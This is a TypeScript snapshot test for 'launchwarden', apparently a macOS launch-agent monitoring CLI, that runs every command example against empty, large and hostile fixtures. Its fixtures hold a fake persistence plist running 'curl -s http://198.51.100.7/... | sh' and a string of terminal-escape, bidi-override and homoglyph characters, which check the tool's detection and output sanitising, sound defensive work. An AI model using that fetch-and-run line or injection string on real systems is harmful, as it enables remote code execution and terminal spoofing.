import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { systemClock } from '../../../src/base/clock.js';
import { type CatalogEntry, catalog } from '../../../src/cli/catalog.js';
import type { Event } from '../../../src/event/event.js';
import { openStore } from '../../../src/store/index.js';
import { multiplyAlerts } from '../../helpers/many-alerts.js';
import { cli, tempFolder } from '../../helpers/run-cli.js';
import { fakeSystem } from '../install/fake-system.js';
import { detection, fileEvent, plistPath, processEvent, rule, storedAlerts } from './alert-fixture.js';
import { putExampleFiles } from './example-files.js';

// On a machine that has much else to do.
vi.setConfig({ testTimeout: 120_000 });

// What a person sees of every command, each by its own examples, as files that were looked at: `test/fixtures/screens/`.
// After a change that is meant: `npx vitest run test/unit/cli/every-screen.test.ts -u`, and look at the difference.

/** Commands whose screens are not here, by how the example begins, with the reason. */
const elsewhere: Readonly<Record<string, string>> = {
  'launchwarden alerts list': 'screens.test.ts',
  'launchwarden alerts stats': 'screens.test.ts',
  'launchwarden alerts export --since 30d': 'finds something for a month alone: alerts.test.ts',
  'launchwarden alerts watch': 'draws over itself: triage.test.ts',
  'launchwarden top': 'draws over itself: top.test.ts',
  'launchwarden prove': 'asks the machine at hand, for minutes: prove.test.ts',
  'launchwarden run': 'runs until it is stopped: run.test.ts',
  'launchwarden install': 'places files: install.test.ts',
  'launchwarden upgrade': 'places files: install.test.ts',
  'launchwarden uninstall': 'removes files: install.test.ts',
  'launchwarden canary': 'needs a running agent: its own tests',
  'launchwarden doctor': 'says what this machine has: doctor.test.ts',
  'launchwarden diagnostics': 'says what this machine has: its own tests',
  'launchwarden completions': 'a script for a shell: shells.test.ts',
  'launchwarden man': 'a page for man(1): shells.test.ts',
  'launchwarden config manifest': 'is a property list: generated.test.ts',
  'launchwarden config schema': 'is a JSON Schema: generated.test.ts',
  'launchwarden version': 'says what this machine has: main.test.ts',
  'launchwarden respond kill': 'ends processes: its own tests',
  'launchwarden respond all': 'ends processes: its own tests',
  'launchwarden respond isolate': 'changes the firewall: its own tests',
  'launchwarden siem elastic-assets --install': 'needs Elasticsearch',
};

const evil = '\u001b]0;owned\u0007\u202egnp.\u202c\nFAKE\t\u0430pple\u200b\u{e0041}';
const hostile =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b\u202a-\u202e\u2028\u2029\u{e0000}-\u{e007f}]/u;
/** What the progress bar draws, and takes away again. */
const progress = /\r(?:\[[#.]{30}\] [ \d]{3} %| {38}\r)/g;
/** Lines of one screen that are kept. */
const mostLines = 30;

/** How long the names of folders are decides where lines are cut. */
const surroundings = { TZ: 'Asia/Kolkata', TMPDIR: '/tmp' };
const before = { ...process.env };
beforeAll(() => {
  Object.assign(process.env, surroundings);
});
afterAll(() => {
  for (const name of Object.keys(surroundings)) delete process.env[name];
  Object.assign(process.env, before);
});

const kinds = ['empty', 'many', 'hostile'] as const;
type Kind = (typeof kinds)[number];

function list(label: string, program: string): string {
  const text = (value: string) => value.replaceAll(/[\u0000-\u0008\u000e-\u001f]/g, '?');
  return `<plist version="1.0"><dict><key>Label</key><string>${text(label)}</string><key>ProgramArguments</key><array>
<string>/bin/sh</string><string>-c</string><string>${text(program)}</string></array><key>RunAtLoad</key><true/></dict></plist>`;
}

/** A folder with all that the examples name: alerts, events, rules, captures, a configuration, a tree that stands for a Mac. */
function world(kind: Kind) {
  const folder = tempFolder();
  const put = (name: string, text: string) => {
    const file = path.join(folder, name);
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, text);
  };
  const name = kind === 'hostile' ? evil : 'com.evil';
  const file = kind === 'hostile' ? { path: plistPath.replace('com.evil', evil), owner: evil } : {};
  const program =
    kind === 'hostile' ? { executable: `/tmp/${evil}`, name: evil, args: ['launchctl', evil] } : {};
  const events: Event[] = kind === 'empty' ? [] : [fileEvent('f1', file), processEvent('p1', program)];
  const own = { ...rule, name: kind === 'hostile' ? evil : rule.name };
  const dataDir = storedAlerts(
    kind === 'empty'
      ? []
      : [
          detection({ rule: own, events, candidates: [] }),
          detection({ rule: own, id: '77c0'.repeat(8), events: [fileEvent('f2', file)], candidates: [] }),
        ],
  );
  const store = openStore({ dataDir, clock: systemClock });
  store.events.append(events);
  store.close();
  if (kind === 'many') multiplyAlerts(dataDir, 10_006);
  const captured = JSON.stringify({
    '@timestamp': '2026-01-31T12:00:00Z',
    event: { category: ['file'] },
    file: { path: `/Users/alice/Library/LaunchAgents/${name}.plist` },
  });
  putExampleFiles(folder, kind === 'empty' ? '' : `${captured}\n`);
  if (kind !== 'empty') {
    put(`mac${plistPath.replace('com.evil', name)}`, list(name, `curl -s http://198.51.100.7/${name} | sh`));
    put(`mac/Library/LaunchDaemons/${name}.plist`, list(name, `/tmp/${name}`));
  }
  return { folder, dataDir, tree: path.join(folder, 'mac') };
}

async function allExamples(entry: CatalogEntry): Promise<string[]> {
  const command = await entry.load?.();
  const below = await Promise.all((entry.commands ?? []).map(allExamples));
  return [...(command?.examples.map(({ line }) => line) ?? []), ...below.flat()];
}

const lines = (await allExamples(catalog)).filter(
  (line) => !Object.keys(elsewhere).some((one) => line.replace(/^sudo /, '').startsWith(one)),
);

/** What differs from one run, and one machine, to the next. */
function settled(text: string): string {
  return (
    text
      .replaceAll(/(?:\d+(?:ms|[smhd]) ?){1,2} ago|just now/g, 'A WHILE AGO')
      .replaceAll(/20\d\d-\d\d-\d\d[ T]\d\d:\d\d(?::\d\d)?(?:\.\d+)?(?:Z|\+05:30)?/g, 'A TIME')
      .replaceAll(/\b\d+(?:\.\d+)? ?(?:ms|s|MB|kB|KiB|MiB|GiB|bytes)\b/g, 'SO MUCH')
      .replaceAll(/_ms":\d+/g, '_ms":N')
      // What a sensor says of itself depends on how far it has come.
      .replaceAll(/ at [\d.]+ % of\s+a core/g, '')
      .replaceAll(/\binode \d+/g, 'inode N')
      .replaceAll(/\b[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}\b/g, 'UUID')
      .replaceAll(/\b[0-9a-f]{8,64}\b/g, 'HEX')
      .replaceAll(/"[A-Za-z0-9+/]{43}="/g, '"KEY"')
      // Where the end of a folder's name shows beyond a cut.
      .replaceAll(/\/tmp\/l\S*…\S*/g, 'CUT')
  );
}

describe.each([
  [80, 24],
  [160, 50],
])('%ix%i', (columns, rows) => {
  test.each(kinds)('%s', async (kind) => {
    const { folder, dataDir, tree } = world(kind);
    const screens: string[] = [];
    for (const line of lines) {
      const places = line
        .replace(/^sudo /, '')
        .replaceAll('/tmp/mac', tree)
        .replaceAll('/Volumes/Backup', tree)
        .replaceAll('/tmp/case', path.join(folder, 'case'));
      const words = (places.match(/"[^"]*"|\S+/g) ?? [])
        .slice(1)
        .map((word) => word.replace(/^"(.*)"$/, '$1'));
      const argv = words.includes('--root') ? words : [...words, '--root', tree];
      const run = await cli(argv, {
        columns,
        rows,
        cwd: folder,
        user: 'carol',
        stdin: '',
        env: {
          NO_COLOR: '1',
          LAUNCHWARDEN_CONFIG: path.join(folder, 'config.toml'),
          LAUNCHWARDEN_DATA_DIR: dataDir,
        },
        system: fakeSystem({ uid: 501 }),
      });
      expect(run.code, `${line}\n${run.stderr}`).not.toBe(70);
      // CSV ends its lines so (RFC 4180).
      const text = `${run.stdout}${run.stderr}`
        .replaceAll('\r\n', '\n')
        .replaceAll(progress, '')
        .replaceAll(dataDir, 'DATA')
        .replaceAll(folder, 'FOLDER');
      expect([line, hostile.exec(text)?.[0]]).toEqual([line, undefined]);
      expect([line, /^FAKE/m.test(text)]).toEqual([line, false]);
      const shown = settled(text).trimEnd().split('\n');
      const more = shown.length - mostLines;
      screens.push(`==== ${line} (exit ${run.code})`, ...shown.slice(0, mostLines));
      if (more > 0) screens.push(`(${more} more lines)`);
    }
    await expect(`${screens.join('\n')}\n`).toMatchFileSnapshot(
      `../../fixtures/screens/every-${kind}-${columns}x${rows}.txt`,
    );
  });
});
